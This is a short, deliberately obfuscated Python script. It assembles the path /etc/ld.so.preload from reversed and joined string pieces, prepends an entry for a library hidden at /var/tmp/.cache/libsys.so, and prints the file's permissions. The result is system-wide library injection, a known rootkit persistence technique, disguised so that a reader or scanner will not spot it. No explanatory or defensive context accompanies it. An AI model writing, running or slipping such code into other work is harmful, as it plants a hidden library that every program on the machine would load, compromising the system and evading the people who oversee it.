from operator import methodcaller
from pathlib import PurePosixPath, Path

name = ".".join(("ld", "so", "daolerp"[::-1]))
dest = Path(PurePosixPath("/").joinpath(*("etc", name)))
old = methodcaller("read_text")(dest) if dest.exists() else ""
method = getattr(dest, "write" + "_text")
method("{0}/{2}/.{1}/lib{3}.so\n".format("/var", "cache", "tmp", "sys") + old)
print(oct(dest.stat().st_mode))
